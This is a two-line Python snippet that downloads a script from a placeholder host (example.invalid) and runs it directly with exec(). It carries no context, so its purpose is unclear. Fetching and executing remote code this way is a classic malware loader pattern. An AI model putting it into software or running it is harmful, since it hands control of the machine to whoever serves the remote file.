import urllib.request
exec(urllib.request.urlopen("http://example.invalid/p.py").read())
